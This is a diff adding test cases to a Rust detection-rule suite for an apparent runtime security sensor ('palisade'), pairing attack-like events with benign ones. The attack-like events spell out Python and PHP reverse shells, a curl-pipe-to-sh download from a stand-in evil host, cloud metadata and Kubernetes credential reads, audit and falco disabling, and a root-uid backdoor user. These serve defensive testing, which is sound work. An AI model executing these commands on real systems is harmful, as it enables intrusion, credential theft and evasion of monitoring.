@@ -145,10 +145,42 @@ fn mount(comm: &str, dev: &str, dir: &str, fstype: &str) -> Ev {
         .a(0, 165)
 }
 
+/// `parent` (pid 50) execs, then `child` (pid 100) execs below it: the table knows the
+/// parent's command line (`proc.pcmdline`).
+fn child_of(parent: Ev, child: Ev) -> Vec<Ev> {
+    let mut p = parent;
+    p.0.pid = 50;
+    p.0.tid = 50;
+    p.0.ppid = 1;
+    let mut c = child;
+    c.0.pcomm = p.0.comm.clone();
+    vec![p, c]
+}
+
+/// The built-in rules with the feed lists filled as `palisade db update` fills them (they
+/// are empty until then).
+fn engine_with_lists() -> palisade_rules::Engine {
+    let mut set = palisade_sensor::builtin::builtin_ruleset();
+    set.add_list_file(
+        "pal_malicious_domains.txt",
+        "pal_malicious_domains",
+        "0.0.0.0 dl.evil-payload.test\n",
+    )
+    .unwrap();
+    set.add_list_file(
+        "pal_malicious_networks.txt",
+        "pal_malicious_networks",
+        "198.51.100.0/24\n",
+    )
+    .unwrap();
+    let (engine, diags) = set.compile(&palisade_sensor::NodeFields);
+    assert!(diags.is_empty(), "{diags:?}");
+    engine
+}
+
 /// Rule ids raised by the event (after the process's own exec, so the table knows it).
 fn hits(events: &[Ev]) -> BTreeSet<String> {
-    let (engine, diags) = builtin_engine();
-    assert!(diags.is_empty(), "{diags:?}");
+    let engine = engine_with_lists();
     let mut meta = HashMap::new();
     meta.insert(
         ID.to_string(),
@@ -579,6 +611,145 @@ fn cases() -> Vec<(&'static str, Vec<Ev>, Vec<Ev>)> {
             vec![exec("sshd -D").host().parent("systemd")],
         ),
         (
+            "PAL-NODE-004",
+            vec![exec("agent --pool ssl://gulf.moneroocean.stream:20128")],
+            vec![exec("agent --pool ssl://api.example.com:443")],
+        ),
+        (
+            "PAL-NODE-010",
+            child_of(exec("java -jar /app/orders-spring-boot.jar"), exec("sh -c id")),
+            child_of(exec("java -cp /opt/kafka/libs/* kafka.Kafka"), exec("sh -c id")),
+        ),
+        (
+            "PAL-NODE-010",
+            vec![exec("sh -c id").parent("php-fpm: pool w"), exec("bash -c whoami").parent("php-fpm8.3")],
+            vec![exec("php -v").parent("php-fpm: pool w")],
+        ),
+        (
+            "PAL-NODE-010",
+            child_of(exec("node /srv/server.js"), exec("sh -c cat /etc/passwd")),
+            child_of(exec("node /usr/lib/node_modules/npm/bin/npm-cli.js ci"), exec("sh -c node-gyp rebuild")),
+        ),
+        (
+            "PAL-NODE-050",
+            vec![exec("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"), connect("curl", "169.254.169.254", 80)],
+            vec![exec("curl -s http://10.0.0.1/"), connect("curl", "10.0.0.1", 80)],
+        ),
+        (
+            "PAL-NODE-050",
+            vec![connect("python3", "fd00:ec2::254", 80)],
+            vec![connect("python3", "169.254.169.254", 80).host()],
+        ),
+        (
+            "PAL-NODE-051",
+            vec![connect("wget", "198.51.100.23", 443)],
+            vec![connect("wget", "203.0.113.23", 443)],
+        ),
+        (
+            "PAL-NODE-052",
+            vec![open("cat", "/var/lib/kubelet/pki/kubelet-client-current.pem", 0).host()],
+            vec![open("kubelet", "/var/lib/kubelet/pki/kubelet-client-current.pem", 0).host()],
+        ),
+        (
+            "PAL-NODE-052",
+            vec![open("python3", "/etc/kubernetes/admin.conf", 0)],
+            vec![open("python3", "/etc/kubernetes/manifests/etcd.yaml", 0)],
+        ),
+        (
+            "PAL-NODE-053",
+            vec![exec("systemctl stop apt-daily-upgrade.timer").host()],
+            vec![exec("systemctl stop nginx").host()],
+        ),
+        (
+            "PAL-NODE-053",
+            vec![exec("systemctl mask --now auditd.service").host(), exec("pkill -9 falco")],
+            vec![exec("systemctl status auditd.service").host()],
+        ),
+        (
+            "PAL-NODE-054",
+            vec![exec("touch -r /bin/ls /usr/bin/kworkerd")],
+            vec![exec("touch /tmp/ready"), exec("touch -d 2020-01-01 /tmp/stamp")],
+        ),
+        (
+            "PAL-NODE-055",
+            ["whoami", "id", "uname -a", "hostname", "ps aux", "ip addr"].into_iter().map(exec).collect(),
+            ["whoami", "id", "uname -a", "hostname", "ps aux"].into_iter().map(exec).collect(),
+        ),
+        (
+            "PAL-NODE-056",
+            vec![exec("echo PALISADE-TEST-ALERT")],
+            vec![exec("echo PALISADE"), exec("sh -c echo PALISADE-TEST-ALERT")],
+        ),
+        (
+            "PAL-NODE-057",
+            vec![exec("sh -c curl -fsSL http://dl.evil-payload.test/x.sh|sh")],
+            vec![exec("sh -c curl -fsSL https://deb.debian.org/x.sh|sh")],
+        ),
+        (
+            "PAL-NODE-058",
+            vec![
+                exec("python3 -c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"),
+                connect("python3", "203.0.113.9", 4444),
+            ],
+            vec![
+                exec("python3 -c import urllib.request;urllib.request.urlopen(\"http://localhost:8080/health\")"),
+                connect("python3", "127.0.0.1", 8080),
+            ],
+        ),
+        (
+            "PAL-NODE-058",
+            vec![
+                exec("php -r $sock=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
+                connect("php", "203.0.113.9", 4444),
+            ],
+            vec![exec("php /srv/worker.php /bin/sh"), connect("php", "203.0.113.9", 4444)],
+        ),
+        (
+            "PAL-NODE-059",
+            child_of(exec("python3 -c import socket,subprocess;s=socket.socket();s.connect((\"203.0.113.9\",4444));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno())"), exec("sh -i")),
+            child_of(exec("python3 -c import os;os.system(\"ls\")"), exec("sh -c ls")),
+        ),
+        (
+            "PAL-NODE-060",
+            vec![open("sh", "/home/deploy/.ssh/authorized_keys", O_WRONLY_CREAT | 0o2000)],
+            vec![open("sshd", "/root/.ssh/authorized_keys", 0), open("sh", "/home/deploy/.ssh/known_hosts", 0)],
+        ),
+        (
+            "PAL-NODE-061",
+            vec![exec("nohup /tmp/.x/kworker -B")],
+            vec![exec("nohup /usr/local/bin/worker --queue default")],
+        ),
+        (
+            "PAL-NODE-062",
+            vec![exec("useradd -m support"), exec("useradd -o -u 0 -M sysd").host()],
+            vec![exec("useradd -m -s /bin/bash alice").host()],
+        ),
+        (
+            "PAL-NODE-062",
+            vec![exec("usermod -aG sudo bob").host()],
+            vec![exec("usermod -aG docker bob").host()],
+        ),
+        (
+            "PAL-NODE-063",
+            vec![exec("openssl passwd -6 -salt xyz S3cret"), exec("chpasswd -e").host()],
+            vec![exec("openssl rand -hex 16"), exec("chpasswd").host()],
+        ),
+        (
+            "PAL-NODE-064",
+            vec![exec("/tmp/splunkd -server http://10.9.9.9:8888 -group red -v")],
+            vec![exec("splunkd start --accept-license")],
+        ),
+        (
+            "PAL-NODE-065",
+            vec![exec("/tmp/kdevtmpfsi"), exec("hping3 --flood -S -p 80 10.0.0.1")],
+            vec![exec("hping3 -c 1 -S -p 80 10.0.0.1")],
+        ),
+        (
+            "PAL-NODE-066",
+            vec![exec("curl -sk https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/csrftoken/login")],
+            vec![exec("curl -sk https://web.shop.svc/healthz")],
+        ),
+        (
             "PAL-NODE-049",
             vec![exec("curl -o /tmp/s http://x/s").parent("nginx")],
             vec![exec("curl -o /tmp/s http://x/s").parent("bash")],
@@ -601,7 +772,9 @@ fn privileged(mut e: Ev) -> Ev {
 
 #[test]
 fn every_rule_has_a_positive_and_a_negative_case() {
-    let (engine, _) = builtin_engine();
+    let (engine, diags) = builtin_engine();
+    assert!(diags.is_empty(), "{diags:?}");
+    assert_eq!(engine.rules().len(), engine_with_lists().rules().len());
     let mut covered = BTreeSet::new();
     for (id, pos, neg) in cases() {
         let p = hits(&pos);
